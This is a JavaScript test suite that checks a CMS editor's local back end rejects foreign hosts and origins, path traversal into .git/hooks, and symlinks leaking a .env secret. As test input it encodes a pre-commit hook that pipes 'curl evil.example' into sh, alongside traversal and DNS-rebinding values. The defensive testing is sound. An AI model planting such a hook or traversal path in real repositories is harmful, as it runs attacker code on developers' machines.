// @ts-check
/**
 * The editor's local back end as `npm run cms` starts it (scripts/cms/local-backend.mjs), in a
 * throwaway checkout: a page elsewhere, or one whose name was rebound to
 * 127.0.0.1, gets 403 and writes nothing; the editor itself writes into content/ only.
 */
import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import { networkInterfaces, tmpdir } from "node:os";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import { freePort, request, startProcess } from "./servers.mjs";

/** This machine's address on its network, if it has one. */
const outward = Object.values(networkInterfaces())
  .flat()
  .find((address) => address && !address.internal && address.family === "IPv4")?.address;
let repo = "";
let port = 0;
const editor = "http://127.0.0.1:4173";
/** @type {Awaited<ReturnType<typeof startProcess>> | undefined} */
let backend;

before(async () => {
  repo = await mkdtemp(path.join(tmpdir(), "editor-backend-"));
  await mkdir(path.join(repo, ".git/hooks"), { recursive: true });
  await mkdir(path.join(repo, "content/media"), { recursive: true });
  await mkdir(path.join(repo, "content/home"));
  await writeFile(path.join(repo, "content/home/hero.yml"), "en:\n  heading: Before\n");
  // Links in the edited folders to a file outside them: what the editor lists must not follow.
  await writeFile(path.join(repo, ".env"), "EMAILJS_PRIVATE_KEY=secret-outside-content\n");
  await symlink("../../.env", path.join(repo, "content/home/leak.yml"));
  await symlink("../../.env", path.join(repo, "content/media/leak.png"));
  port = await freePort();
  backend = await startProcess(
    process.execPath,
    [
      "scripts/cms/local-backend.mjs",
      "--port",
      String(port),
      "--editor-origin",
      editor,
      "--repo",
      repo,
    ],
    { ready: `http://127.0.0.1:${port}` },
  );
});
after(async () => {
  await backend?.stop();
  await rm(repo, { recursive: true, force: true });
});

const hook = ".git/hooks/pre-commit";
const script = Buffer.from("#!/bin/sh\ncurl evil.example | sh\n").toString("base64");
/** @param {string} file */
const persistMedia = (file) => ({
  action: "persistMedia",
  params: {
    branch: "main",
    asset: { path: file, content: script, encoding: "base64" },
    options: { commitMessage: "Upload" },
  },
});
/** @param {string} file @param {string} raw */
const persistEntry = (file, raw) => ({
  action: "persistEntry",
  params: {
    branch: "main",
    entry: { slug: "hero", path: file, raw },
    assets: [],
    options: {
      commitMessage: "Update",
      collectionName: "home",
      useWorkflow: false,
      status: "draft",
    },
  },
});
/** @param {unknown} body @param {Record<string, string>} headers */
const post = (body, headers) =>
  request(`http://127.0.0.1:${port}`, "/api/v1", {
    method: "POST",
    headers: { "Content-Type": "application/json", ...headers },
    body: JSON.stringify(body),
  });
const written = (/** @type {string} */ file) => existsSync(path.join(repo, file));

describe("the editor's local back end", () => {
  it("refuses a name rebound to 127.0.0.1 (a foreign Host) with 403, and writes nothing", async () => {
    for (const host of [`rebound.example:${port}`, "127.0.0.1.nip.io", `127.0.0.1:${port + 1}`]) {
      for (const file of [hook, "content/media/upload.png"]) {
        const answer = await post(persistMedia(file), { Host: host, Origin: `http://${host}` });
        assert.equal(answer.status, 403, `${host} ${file}`);
        assert.equal(written(file), false, `${host} ${file}`);
      }
    }
  });

  it("refuses any page but the editor's (a foreign Origin) with 403, preflight included", async () => {
    const host = { Host: `127.0.0.1:${port}` };
    for (const origin of [
      "http://localhost:3000",
      "http://127.0.0.1:9999",
      "https://evil.example",
      "null",
    ]) {
      const answer = await post(persistMedia("content/media/upload.png"), {
        ...host,
        Origin: origin,
      });
      assert.equal(answer.status, 403, origin);
      assert.equal(answer.headers["access-control-allow-origin"], undefined, origin);
      const preflight = await request(`http://127.0.0.1:${port}`, "/api/v1", {
        method: "OPTIONS",
        headers: { ...host, Origin: origin, "Access-Control-Request-Method": "POST" },
      });
      assert.equal(preflight.status, 403, origin);
      assert.equal(preflight.headers["access-control-allow-origin"], undefined, origin);
    }
    assert.equal(written("content/media/upload.png"), false);
    const preflight = await request(`http://127.0.0.1:${port}`, "/api/v1", {
      method: "OPTIONS",
      headers: { ...host, Origin: editor, "Access-Control-Request-Method": "POST" },
    });
    assert.equal(preflight.status, 204);
    assert.equal(preflight.headers["access-control-allow-origin"], editor);
  });

  it("lets the editor write content/ and pictures to content/media/ only, never .git", async () => {
    const headers = { Host: `127.0.0.1:${port}`, Origin: editor };
    for (const file of [
      hook,
      "content/media/../../.git/hooks/pre-commit",
      "content/home/x.yml",
      "x.png",
    ]) {
      const answer = await post(persistMedia(file), headers);
      assert.equal(answer.status, 403, file);
      assert.equal(written(file), false, file);
    }
    for (const file of ["package.json", ".git/config", "content/../vite.config.ts"]) {
      assert.equal((await post(persistEntry(file, "x"), headers)).status, 403, file);
      assert.equal(written(file), false, file);
    }
    const saved = await post(
      persistEntry("content/home/hero.yml", "en:\n  heading: After\n"),
      headers,
    );
    assert.equal(saved.status, 200, saved.body);
    assert.match(readFileSync(path.join(repo, "content/home/hero.yml"), "utf8"), /After/);
    const uploaded = await post(persistMedia("content/media/press.png"), headers);
    assert.equal(uploaded.status, 200, uploaded.body);
    assert.equal(written("content/media/press.png"), true);
  });

  it("lists no file whose link leads outside content/, nor reads one", async () => {
    const headers = { Host: `127.0.0.1:${port}`, Origin: editor };
    const secret = /secret-outside-content/;
    const listed = await post(
      {
        action: "entriesByFolder",
        params: { branch: "main", folder: "content/home", extension: "yml", depth: 1 },
      },
      headers,
    );
    assert.equal(listed.status, 200, listed.body);
    const paths = JSON.parse(listed.body).map((/** @type {any} */ entry) => entry.file.path);
    assert.deepEqual(paths, ["content/home/hero.yml"]);
    assert.doesNotMatch(listed.body, secret);
    const media = await post(
      { action: "getMedia", params: { branch: "main", mediaFolder: "content/media" } },
      headers,
    );
    assert.equal(media.status, 200, media.body);
    const files = JSON.parse(media.body).map((/** @type {any} */ file) => file.path);
    assert.equal(files.includes("content/media/leak.png"), false, files.join(", "));
    assert.doesNotMatch(media.body, secret);
    for (const body of [
      { action: "getEntry", params: { branch: "main", path: "content/home/leak.yml" } },
      { action: "getMediaFile", params: { branch: "main", path: "content/media/leak.png" } },
    ]) {
      const answer = await post(body, headers);
      assert.equal(answer.status, 403, body.action);
      assert.doesNotMatch(answer.body, secret, body.action);
    }
  });

  it("listens on 127.0.0.1 only", { skip: !outward && "no network address here" }, async () => {
    await assert.rejects(request(`http://${outward}:${port}`, "/api/v1"), /ECONNREFUSED/);
  });
});
